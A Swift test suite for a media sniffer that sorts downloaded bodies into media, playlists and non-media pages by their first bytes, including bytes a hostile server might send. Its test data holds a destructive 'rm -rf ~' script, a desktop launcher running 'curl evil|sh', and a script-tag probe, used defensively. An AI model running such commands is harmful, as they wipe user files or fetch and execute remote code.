import Foundation
import Testing
import VODAppTransferPolicy

/// What the sniffer takes for media, and what it does not, from a body's first bytes: the
/// bypasses a hostile server tried (a stray control byte, Latin-1, UTF-16) and the heads of real
/// containers.
@Suite struct MediaSnifferTests {
    private func verdict(_ head: [UInt8], type: String? = "application/octet-stream") -> MediaSniffer.Verdict {
        MediaSniffer.verdict(contentType: type, head: head, complete: true)
    }

    private func isNotMedia(_ verdict: MediaSniffer.Verdict) -> Bool {
        if case .notMedia = verdict { return true }
        return false
    }

    @Test func pagesAreNotMediaWhateverTheirCharsetOrAStrayControlByte() {
        let page = Array("<!DOCTYPE html><html><body><script>alert(1)</script>Sign in</body></html>\n".utf8)
        #expect(isNotMedia(verdict(page)))
        #expect(isNotMedia(verdict([0x01] + page)), "one control byte before the page")
        #expect(isNotMedia(verdict(page + [0x00, 0x02])), "control bytes after it")
        let latin1 = Array("<html><body>Connexion r".utf8) + [0xE9, 0x73, 0x65, 0x61, 0x75] + Array(" requise</body></html>".utf8)
        #expect(isNotMedia(verdict(latin1)), "Latin-1 is not UTF-8, and still text")
        let utf16LE: [UInt8] = [0xFF, 0xFE] + page.flatMap { [$0, UInt8(0)] }
        #expect(isNotMedia(verdict(utf16LE)))
        let utf16BEWithoutMark: [UInt8] = page.flatMap { [UInt8(0), $0] }
        #expect(isNotMedia(verdict(utf16BEWithoutMark)))
        #expect(isNotMedia(verdict(Array("#!/bin/sh\nrm -rf ~\n".utf8))))
        let behindJunk: [UInt8] = Array("X".utf8) + Array(repeating: 0, count: 7) + page + Array(repeating: 0x20, count: 600)
        #expect(isNotMedia(verdict(behindJunk)), "markup a few bytes in is a page to xdg-open")
        #expect(verdict(Array("[Desktop Entry]\nType=Application\nExec=sh -c 'curl evil|sh'\n".utf8))
                == .notMedia("the server answered with a desktop entry (a launcher), not media"))
        #expect(isNotMedia(verdict(Array(#"{"error": "expired"}"#.utf8) + [0x1B])))
    }

    /// Markup anywhere in the first 256 bytes, in any case, behind binary junk: a page, or an SVG
    /// image; the same markup starting past them, or cut by their end, is not looked for.
    @Test(arguments: ["<!DOCTYPE html", "<HTML", "<Head", "<title", "<sCrIpT", "<BODY", "<iframe", "<svg"])
    func markupBehindJunkWithinTheFirst256Bytes(markup: String) {
        let junk: [UInt8] = [0x00, 0x01, 0xFE, 0x80, 0x1B, 0x7F, 0xC3]
        let tail = [UInt8](repeating: 0x00, count: 600)
        let what = markup.lowercased().hasPrefix("<svg") ? "an SVG image" : "an HTML page"
        let expected = MediaSniffer.Verdict.notMedia("the server answered with \(what) behind a few bytes, not media")
        let bytes = Array(markup.utf8)
        #expect(verdict(junk + bytes + tail) == expected)
        let lastStart = 256 - bytes.count
        #expect(verdict(junk + [UInt8](repeating: 0x00, count: lastStart - junk.count) + bytes + tail) == expected, "ending at byte 256")
        #expect(verdict(junk + [UInt8](repeating: 0x00, count: lastStart - junk.count + 1) + bytes + tail) == .media, "cut by byte 256")
    }

    /// What a CDN sends in place of an expired video is not one, whatever its URL or type says.
    @Test func imagesDocumentsAndArchivesAreNotMedia() {
        let heads: [String: [UInt8]] = [
            "JPEG": [0xFF, 0xD8, 0xFF, 0xE0, 0x00, 0x10] + Array("JFIF".utf8) + [0, 1, 1, 0, 0, 1],
            "PNG": [0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A, 0, 0, 0, 0x0D] + Array("IHDR".utf8),
            "PDF": Array("%PDF-1.4\n%".utf8) + [0xE2, 0xE3, 0xCF, 0xD3, 0x0A, 0x00, 0x01],
            "gzip": [0x1F, 0x8B, 0x08, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x03],
            "WebP": Array("RIFF".utf8) + [0x24, 0, 0, 0] + Array("WEBPVP8 ".utf8),
        ]
        for (name, head) in heads {
            #expect(isNotMedia(verdict(head, type: "video/mp4")), "\(name)")
        }
    }

    @Test func containersAreMedia() {
        let heads: [String: [UInt8]] = [
            "MP4": [0, 0, 0, 0x20] + Array("ftypisom".utf8) + [0, 0, 2, 0] + Array("isomiso2avc1mp41".utf8) + [0, 0, 0, 8] + Array("free".utf8),
            "MPEG-TS": (0..<4).flatMap { _ in [0x47, 0x40, 0x00, 0x10] + Array(repeating: 0xFF, count: 184) },
            "Matroska": [0x1A, 0x45, 0xDF, 0xA3, 0x9F, 0x42, 0x86, 0x81, 0x01, 0x42, 0xF7, 0x81, 0x01] + Array("webm".utf8),
            "MP3 with ID3": Array("ID3".utf8) + [0x04, 0x00, 0x00, 0x00, 0x00, 0x01, 0x23] + Array(repeating: 0, count: 30),
            "Ogg": Array("OggS".utf8) + [0x00, 0x02] + Array(repeating: 0, count: 20),
            "FLAC": Array("fLaC".utf8) + [0x00, 0x00, 0x00, 0x22, 0x10, 0x00, 0x10, 0x00],
            "WAV": Array("RIFF".utf8) + [0x24, 0x08, 0x00, 0x00] + Array("WAVEfmt ".utf8) + [0x10, 0, 0, 0, 1, 0, 2, 0],
        ]
        for (name, head) in heads {
            #expect(verdict(head) == .media, "\(name)")
        }
    }

    /// MPEG-TS served as Qt's translation files (Apache and Python's http.server map `.ts` so,
    /// through /etc/mime.types) is media by its sync bytes; a text page under that type is not,
    /// and an HTML page or a script is not, whatever it starts with.
    @Test func aTextTypeFromAnExtensionDoesNotHideAContainer() {
        let ts: [UInt8] = (0..<4).flatMap { _ in [0x47, 0x40, 0x00, 0x10] + Array(repeating: 0xFF, count: 184) }
        #expect(verdict(ts, type: "text/vnd.trolltech.linguist") == .media)
        #expect(MediaSniffer.verdict(contentType: "text/vnd.trolltech.linguist", head: Array(ts.prefix(100)), complete: false) == .undecided)
        #expect(isNotMedia(verdict(Array("<?xml version=\"1.0\"?><TS version=\"2.1\"></TS>\n".utf8), type: "text/vnd.trolltech.linguist")))
        #expect(isNotMedia(verdict(ts, type: "text/html")))
        #expect(isNotMedia(verdict(ts, type: "text/javascript")))
    }

    /// An encrypted segment (AES-128) under the same label: ciphertext shows no signature, so
    /// bytes that are not text are media; a page, a document or a playlist under the label is
    /// still not, and a label that is never media still refuses it.
    @Test func ciphertextUnderATextTypeFromAnExtensionIsMediaButAPageIsNot() {
        var generator = SystemRandomNumberGenerator()
        let cipher: [UInt8] = (0..<752).map { _ in UInt8.random(in: 0...255, using: &generator) }
        let qt = "text/vnd.trolltech.linguist"
        func sniff(_ head: [UInt8], _ type: String = qt) -> MediaSniffer.Verdict {
            MediaSniffer.verdict(contentType: type, head: head, complete: true, ciphertext: true)
        }
        #expect(isNotMedia(MediaSniffer.verdict(contentType: qt, head: cipher, complete: true)))
        #expect(sniff(cipher) == .media)
        #expect(isNotMedia(sniff(Array("<!DOCTYPE html><html><body>Sign in</body></html>".utf8))))
        #expect(isNotMedia(sniff(Array("<?xml version=\"1.0\"?><TS version=\"2.1\"></TS>\n".utf8))))
        #expect(isNotMedia(sniff(Array("Access denied\n".utf8))))
        #expect(sniff(Array("#EXTM3U\n#EXTINF:1,\na.ts\n".utf8)) == .hlsPlaylist)
        #expect(isNotMedia(sniff(cipher, "text/html")))
    }

    /// A file the server labelled vaguely is named by what its bytes show.
    @Test func containersAreNamedByTheirFirstBytes() {
        #expect(MediaSniffer.containerType([0, 0, 0, 0x20] + Array("ftypisom".utf8)) == "video/mp4")
        #expect(MediaSniffer.containerType([0, 0, 0, 0x14] + Array("ftypqt  ".utf8)) == "video/quicktime")
        #expect(MediaSniffer.containerType((0..<2).flatMap { _ in [0x47, 0x40, 0x00, 0x10] + Array(repeating: UInt8(0xFF), count: 184) }) == "video/mp2t")
        #expect(MediaSniffer.containerType([0x1A, 0x45, 0xDF, 0xA3, 0x9F, 0x42, 0x82, 0x84] + Array("webm".utf8)) == "video/webm")
        #expect(MediaSniffer.containerType(Array("ID3".utf8) + [4, 0, 0]) == "audio/mpeg")
        #expect(MediaSniffer.containerType(Array(repeating: 0x55, count: 64)) == nil)
    }

    @Test func playlistsAndManifestsAreRecognised() {
        #expect(verdict(Array("\u{FEFF}#EXTM3U\n#EXT-X-VERSION:3\n".utf8)) == .hlsPlaylist)
        #expect(verdict(Array(#"<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011">"#.utf8)) == .dashManifest)
        #expect(MediaSniffer.verdict(contentType: "application/dash+xml; charset=utf-8", head: [], complete: false) == .dashManifest)
        // The root after a long comment, or with a prefix; undecided until it shows, up to 8 KiB.
        let comment = Array(("<?xml version=\"1.0\"?><!-- " + String(repeating: "x", count: 700) + " -->").utf8)
        #expect(MediaSniffer.verdict(contentType: nil, head: comment, complete: false) == .undecided)
        #expect(MediaSniffer.verdict(contentType: nil, head: comment + Array("<MPD type=\"static\">".utf8), complete: false) == .dashManifest)
        #expect(verdict(Array(#"<?xml version="1.0"?><dash:MPD xmlns:dash="urn:mpeg:dash:schema:mpd:2011">"#.utf8)) == .dashManifest)
        #expect(MediaSniffer.verdict(contentType: nil, head: comment + Array(repeating: 0x20, count: 8192), complete: false)
                == .notMedia("the server answered with an XML document, not media"))
        // Another XML document is still not media.
        #expect(verdict(Array(#"<?xml version="1.0"?><rss version="2.0"><channel>"#.utf8))
                == .notMedia("the server answered with an XML document, not media"))
    }

    private static let json = MediaSniffer.Verdict.notMedia("the server answered with JSON, not media: an API's error?")
    /// Bytes as a container's are past its first few: every value, a control byte in eight.
    private static let binaryTail: [UInt8] = (0..<504).map { UInt8(truncatingIfNeeded: $0 &* 167 &+ 13) }
    /// What text may start with before a document's first sign.
    private static let whitespace: Set<UInt8> = [0x09, 0x0A, 0x0C, 0x0D, 0x20]

    /// One byte, each of the 256, before `{"` and binary bytes: JSON only after whitespace (or
    /// a brace or bracket, which JSON may start with); any other byte is not text's, and the body is
    /// media, as random binary is. (A body whose junk ran up to `{"` was taken for JSON.)
    @Test func onlyWhitespaceComesBeforeJSONInABinaryBody() {
        for byte in UInt8.min...UInt8.max {
            let head = [byte] + Array(#"{"a":1}"#.utf8) + Self.binaryTail
            let expected: MediaSniffer.Verdict = Self.whitespace.contains(byte) || byte == UInt8(ascii: "{") || byte == UInt8(ascii: "[")
                ? Self.json : .media
            #expect(verdict(head, type: "video/mp4") == expected, "leading byte \(byte)")
        }
    }

    /// The same before a JSON error padded with text: never media (it is text), and JSON only
    /// after whitespace, a brace or a bracket.
    @Test func aJSONErrorBehindAnyByteIsNeverMedia() {
        for byte in UInt8.min...UInt8.max {
            let head = [byte] + Array(#"{"error":"expired","code":401}"#.utf8) + Array(repeating: UInt8(ascii: " "), count: 500)
            let result = verdict(head, type: "video/mp4")
            #expect(isNotMedia(result), "leading byte \(byte): \(result)")
            let isJSON = Self.whitespace.contains(byte) || byte == UInt8(ascii: "{") || byte == UInt8(ascii: "[")
            #expect((result == Self.json) == isJSON, "leading byte \(byte): \(result)")
        }
    }

    /// Real JSON, with what text may start with: a byte-order mark, whitespace, CRLF, UTF-16.
    @Test func realJSONIsJSONWhateverWhitespaceOrMarkStartsIt() {
        let error = #"{"error": "the link has expired", "détail": "réessayez"}"#
        for text in [error, "\u{FEFF}" + error, "\u{FEFF}  \r\n\t" + error, "\r\n\r\n" + error, "\u{0C}" + error,
                     "[" + error + "]", "[]", "  [\n  {\"a\": 1}\n]\n"] {
            #expect(verdict(Array(text.utf8)) == Self.json, "\(text.debugDescription)")
        }
        let utf16LE: [UInt8] = [0xFF, 0xFE] + error.utf16.flatMap { [UInt8(truncatingIfNeeded: $0), UInt8(truncatingIfNeeded: $0 >> 8)] }
        #expect(verdict(utf16LE) == Self.json)
        #expect(verdict(Array(error.utf8), type: "application/json") == Self.json)
    }

    /// UTF-8 text that is not JSON is text; UTF-8 after binary bytes is not a document.
    @Test func utf8TextIsTextAndBinaryIsNot() {
        let text = Array("Réessayez plus tard. 再試行してください。 Попробуйте позже.\n".utf8)
        #expect(verdict(text) == .notMedia("the server answered with text, not media"))
        #expect(verdict([0x00, 0x01, 0x02, 0x03] + Array("#EXTM3U\n".utf8) + Self.binaryTail) == .media)
        #expect(verdict([0x80, 0x81] + Array("#!/bin/sh\n".utf8) + Self.binaryTail) == .media)
        #expect(verdict(Self.binaryTail) == .media)
    }
}
